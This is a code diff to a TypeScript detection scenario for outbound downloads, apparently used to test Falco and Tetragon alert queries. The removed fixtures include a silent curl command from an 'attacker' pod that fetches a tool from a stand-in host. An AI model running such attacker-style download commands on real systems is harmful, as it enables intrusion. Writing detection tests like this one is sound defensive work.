@@ -1,10 +1,6 @@
 import { defineScenario, type Query } from "../model/scenario-schema";
 import outboundAlert from "../queries/outbound.falco.json";
 import outboundMatch from "../queries/outbound.tetragon.json";
-import { falcoAlert } from "../samples/falco";
-import { tetragonMatch } from "../samples/tetragon";
-
-const LINE = "/usr/bin/curl --silent --max-time 3 http://192.0.2.10/tool";
 
 export const outboundDownload = defineScenario({
   id: "outbound-download",
@@ -38,32 +34,5 @@ export const outboundDownload = defineScenario({
       query: outboundMatch as Query,
       fields: { "threat.technique.id": "T1071", "event.severity": 4 },
     },
-  ],
-  samples: [
-    falcoAlert({
-      rule: "Outbound connection to a non-cluster address",
-      pod: "attacker",
-      event: "connect",
-      command: LINE,
-      fields: { "fd.name": "10.244.1.7:41236->192.0.2.10:80", "fd.sip": "192.0.2.10" },
-    }),
-    tetragonMatch({
-      policy: "suspicious-egress",
-      call: "tcp_connect",
-      pod: "attacker",
-      command: LINE,
-      args: [
-        {
-          sock_arg: {
-            family: "AF_INET",
-            protocol: "IPPROTO_TCP",
-            saddr: "10.244.1.7",
-            daddr: "192.0.2.10",
-            sport: 41236,
-            dport: 80,
-          },
-        },
-      ],
-    }),
   ],
 });
